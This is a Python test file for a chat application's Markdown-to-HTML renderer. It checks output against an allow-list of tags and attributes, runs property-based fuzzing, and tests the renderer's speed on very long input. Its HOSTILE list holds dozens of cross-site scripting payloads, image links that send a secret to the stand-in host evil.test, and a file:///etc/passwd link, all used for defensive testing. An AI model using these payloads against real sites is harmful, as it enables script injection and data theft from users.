"""Markdown to HTML: hostile text comes out as words, ordinary text as it was meant, and none of it takes long."""

import re
import sys
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chat import markdown

MATH = {
    *("math", "mrow", "mi", "mo", "mn", "mtext", "mspace", "mfrac", "msqrt", "mroot", "mstyle", "mpadded", "mphantom"),
    *("msub", "msup", "msubsup", "munder", "mover", "munderover", "mtable", "mtr", "mtd"),
}
# What an attribute of a formula may say: words, lengths, and the source as text.
MATH_VALUE = re.compile(r"true|false|inline|block|prefix|infix|postfix|normal|is-left|is-right|[-+]?[\d.]+[a-z]{0,2}")
ALLOWED = {
    *("p", "br", "hr", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "strong", "em", "s", "a", "code"),
    *("pre", "span", "table", "thead", "tbody", "tr", "th", "td"),
    *MATH,
}


class Tags(HTMLParser):
    """Everything in a page that is not text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.tags.append("comment")


ID = r"[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}"
PERSON = "M:00000000-0000-0000-0000-000000000001"


def harmless(html: str) -> Tags:
    """Assert that the HTML holds nothing that runs, loads or styles; what it does hold."""
    found = Tags(html)
    assert set(found.tags) <= ALLOWED, set(found.tags) - ALLOWED
    for tag, name, value in found.attributes:
        if name == "href":
            assert re.match(rf"(https?://|mailto:|/members/{ID}/$)", value, re.IGNORECASE), value
            assert tag == "a"
        elif tag in MATH:
            assert (tag, name) == ("math", "alttext") or MATH_VALUE.fullmatch(value), (tag, name, value)
        else:
            assert (name, tag) in {
                *(("class", tag) for tag in ("a", "code", "pre", "span", "th", "td")),
                *(
                    ("title", "a"),
                    ("rel", "a"),
                    ("data-language", "pre"),
                    ("data-mention", "span"),
                    ("data-mention", "a"),
                    ("start", "ol"),
                ),
            }, (tag, name)
    return found


HOSTILE = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "[x](\x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)", "[x](vbscript:x)", "[x](JaVaScRiPt:alert(1))", "[x](&#x6a;avascript:alert(1))",
    "![x](https://evil.test/?q=SECRET)", "![x][r]\n\n[r]: https://evil.test/?q=SECRET", "![x](javascript:alert(1))", "![](//evil.test)",
    "[a](https://good.test@evil.test)", "[a](//evil.test)", "[a](file:///etc/passwd)", "<https://e.test/onclick=alert(1)>", "<javascript:alert(1)>",
    "<details open ontoggle=alert(1)>", '<style>@import "//evil"</style>', "<form action=//evil><input name=password>", "<base href=//evil>",
    '<meta http-equiv=refresh content="0;url=//evil">', '<iframe srcdoc="<script>parent.alert(1)</script>">', "<a id=csrftoken name=csrftoken>x</a>",
    "```\n</code></pre><script>1</script>\n```", "```svg\n<svg onload=alert(1)>\n```", '```"><img src=x onerror=1>\ncode\n```', "`</code><script>1</script>`",
    "| a |\n|-|\n|<img src=x onerror=1>|", '| a |\n|:-:" onload="x|\n|b|', "\\<script>", "<!-- --!><img src=x onerror=1>", "<!--><script>1</script>-->",
    "[foo]: <javascript:alert(1)>\n\n[foo]", "<video src=//evil poster=//evil>", "<math><mtext></p><img src=x onerror=1>", "<svg><style><img src=x onerror=1>",
    '[x](https://e.test "onmouseover=alert(1)")', "[x](https://e.test 'a\" onclick=\"alert(1)')", "<p style=position:fixed>", "<template><script>1</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "<<script>script>alert(1)<</script>/script>", "<@M:\" onclick=alert(1)>", "\u202e<script>1</script>", "<noscript><p title='</noscript><img src=x onerror=1>'>",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_comes_out_as_words(text: str) -> None:
    found = harmless(markdown.render(text))

    assert "SECRET" not in found.text or ("a", "href", "https://evil.test/?q=SECRET") in found.attributes


@settings(deadline=None)
@given(st.text(st.sampled_from("<>/\"'=&;:#![]()`*_~|\\ \nabhrefsconimgalt\x00\x01$^{}"), max_size=80))
def test_no_mix_of_signs_comes_out_as_anything_else(text: str) -> None:
    harmless(markdown.render(text))


def test_an_image_is_a_link_that_somebody_has_to_follow() -> None:
    html = markdown.render("![a cat](https://e.test/cat.png)")

    assert html == '<p><a href="https://e.test/cat.png" rel="noopener nofollow">a cat</a></p>\n'


def test_controls_are_shown_as_pictures_of_themselves() -> None:
    assert markdown.render("a\x1b[31m\x00b") == "<p>a␛[31m␀b</p>\n"


ORDINARY = {
    "line ends": ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
    "strong and struck": ("**a** *b* ~~c~~", "<p><strong>a</strong> <em>b</em> <s>c</s></p>\n"),
    "headings under those of the page": ("# a\n###### b", "<h3>a</h3>\n<h6>b</h6>\n"),
    "a list from seven": ("7. a\n8. b", '<ol start="7">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
    "a table": ("|a|b|\n|:-|-:|\n|1|2|", 'class="is-right"'),
    "a link": ("[a](https://e.test/b)", '<a href="https://e.test/b" title="https://e.test/b" rel="noopener nofollow">a</a>'),
    "mail": ("<a@e.test>", 'href="mailto:a@e.test"'),
    "code": ("```\n<b>\n```", "<code>&lt;b&gt;\n</code>"),
    "code in a language": ("```python\nx = 1\n```", '<span class="n">x</span>'),
    "a language that nobody knows": ("```klingon\nx = 1\n```", '<pre class="highlight" data-language="klingon"><code>x = 1\n</code></pre>'),
    "html": ("a <b>b</b> & c", "<p>a &lt;b&gt;b&lt;/b&gt; &amp; c</p>\n"),
    "nothing": ("", ""),
    "what is to be done": ("- [ ] a\n- [x] b\n", '<ul>\n<li><span class="task">☐</span> a</li>\n<li><span class="task is-done">☑</span> b</li>\n</ul>'),
    "a task in a loose list of figures": ("1. [X] *a*\n\n2. b", '<p><span class="task is-done">☑</span> <em>a</em></p>'),
    "a box that is no task": ("[ ] a\n\n- [x](https://e.test) b\n- `[x] c`\n- [ ]", "<li>[ ]</li>"),
}  # fmt: skip


@pytest.mark.parametrize(("text", "html"), ORDINARY.values(), ids=ORDINARY)
def test_ordinary_text_comes_out_as_it_was_meant(text: str, html: str) -> None:
    rendered = markdown.render(text)

    assert html in rendered if html else rendered == ""
    harmless(rendered)


def test_a_mention_shows_the_name_it_was_resolved_to_and_nothing_else_is_one() -> None:
    names = {PERSON: 'ana"><script>', "G:here": "here"}
    text = f"<@{PERSON}> <@G:here> <@G:space> <@A:7> `<@G:here>`"

    html = markdown.render(f"{text} [to <@{PERSON}>](https://e.test)", names)

    assert html.count('class="mention"') == 3
    assert html.count(f'<a class="mention" data-mention="{PERSON}" href="/members/{PERSON[2:]}/"') == 1
    assert f'>to <span class="mention" data-mention="{PERSON}">' in html
    harmless(html)
    assert "@ana&quot;&gt;&lt;script&gt;" in html or '@ana"&gt;&lt;script&gt;' in html
    assert "&lt;@G:space&gt; &lt;@A:7&gt; <code>&lt;@G:here&gt;</code>" in html
    assert markdown.plain(text, names).startswith('@ana"><script> @here @someone @someone')


LONG = {
    "one line": "word " * 20_000,
    "paragraphs": "a paragraph of a few words\n\n" * 3000,
    "code with blank lines": "before\n\n```python\n" + "x = '<b>'\n\n" * 4000 + "```\n\nafter **all**",
    "code of tildes with ticks": "~~~\n" + "```\n\n" * 8000 + "~~~\n\nafter **all**",
    "code that never ends": "```\n" + "x\n\n" * 12_000,
}


@pytest.mark.parametrize("text", LONG.values(), ids=LONG)
def test_no_word_of_a_very_long_text_is_lost_and_code_stays_code(text: str) -> None:
    found = harmless(markdown.render(text))

    words = re.findall(r"\w+", re.sub(r"^(```|~~~).*$", "", text, flags=re.MULTILINE))
    shown = re.findall(r"\w+", found.text)
    assert len(shown) == len(words)
    if "x" in text.split("\n")[0:4]:
        assert "p" not in found.tags
    if "after" in text:
        assert "<strong>all</strong>" in markdown.render(text)
        assert found.tags.count("p") <= 2


GROWING: dict[str, Callable[[int], str]] = {
    "brackets": lambda n: "[" * n,
    "images": lambda n: "![" * (n // 2),
    "nested lists": lambda n: "".join("  " * i + "- a\n" for i in range(int(n**0.5))),
    "stars": lambda n: "http://a.com/" + "*" * n + "x",
    "ladders of ticks": lambda n: "".join("e" + "`" * i for i in range(int((2 * n) ** 0.5))),
    "quotes": lambda n: '"a ' * (n // 6) + "' " * (n // 4),
    "pipes": lambda n: "|" * (n // 2) + "\n" + "|-" * (n // 4) + "|\n",
    "comments": lambda n: "<!-- " * (n // 5),
    "struck": lambda n: "~~a " * (n // 4),
    "references": lambda n: (
        "".join(f"[a{i}]: /u\n" for i in range(n // 16)) + "".join(f"[a{i}]" for i in range(n // 16))
    ),
    "hashes": lambda n: "#" * n,
    "mixed emphasis": lambda n: "*_a_" * (n // 4),
    "half emphasis": lambda n: "**x* " * (n // 5),
    "half links": lambda n: "a](" * (n // 3),
    "mentions": lambda n: "<@M:" * (n // 4),
    "fences": lambda n: "```\n" * (n // 4),
    "entities": lambda n: "&a" * (n // 2),
    "dollars": lambda n: "$" * n,
    "half formulas": lambda n: "$a " * (n // 3),
    "formulas": lambda n: "$a$ " * (n // 4),
    "formulas that never end": lambda n: "$$\na\n" * (n // 5),
    "escaped dollars": lambda n: "$\\$" * (n // 3),
    "half bracketed formulas": lambda n: "\\(a " * (n // 4),
    "half blocks of formulas": lambda n: "\\[\n" * (n // 3),
    "tasks": lambda n: "- [ ] a\n" * (n // 8),
    "half tasks": lambda n: "- [" * (n // 3),
}


@pytest.mark.parametrize("kind", GROWING)
def test_twice_the_text_is_at_most_a_little_more_than_twice_the_work(kind: str) -> None:
    markdown.render(GROWING[kind](400))
    small, large = (_calls(GROWING[kind](size)) for size in (4000, 8000))

    assert large < 2.6 * small


def _calls(text: str) -> int:
    """How many functions are called to render it: time that does not depend on the machine."""
    count = 0

    def note(frame: object, event: str, argument: object) -> None:
        nonlocal count
        count += event in ("call", "c_call")

    before = sys.getprofile()
    sys.setprofile(note)
    try:
        markdown.render(text)
    finally:
        sys.setprofile(before)
    return count
